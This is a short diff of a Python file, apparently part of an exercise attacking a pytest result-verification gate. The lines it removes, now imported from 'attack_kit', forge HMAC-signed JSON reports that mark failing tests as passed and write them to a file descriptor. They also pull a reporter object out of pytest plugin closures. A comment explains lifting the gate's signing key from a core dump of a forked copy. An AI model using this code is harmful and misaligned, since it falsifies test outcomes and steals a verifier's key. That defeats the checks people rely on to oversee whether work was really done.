@@ -1,16 +1,6 @@
-import hmac, hashlib, json, os, resource, signal, struct, tempfile
+import os, resource, signal, struct, tempfile
 
-def forge(key):
-    tests = {"tests/test_attack.py::test_wrong": "passed", "tests/test_attack.py::test_also_wrong": "passed"}
-    payload = json.dumps({"exitstatus": 0, "tests": tests, "collect_errors": [], "junit": None}).encode()
-    os.write(5, hmac.new(key, payload, hashlib.sha256).hexdigest().encode() + b"\n" + payload)
-    os._exit(0)
-
-def the_record(request):
-    for plugin in request.config.pluginmanager.get_plugins():
-        for cell in getattr(getattr(plugin, 'pytest_runtest_logreport', None), '__closure__', None) or []:
-            if hasattr(cell.cell_contents, 'send'):
-                return cell.cell_contents
+from attack_kit import forge, the_record
 
 def core_of_a_copy():
     # A forked copy of the gate holds the key at the same addresses; the kernel writes its memory to a file for us.
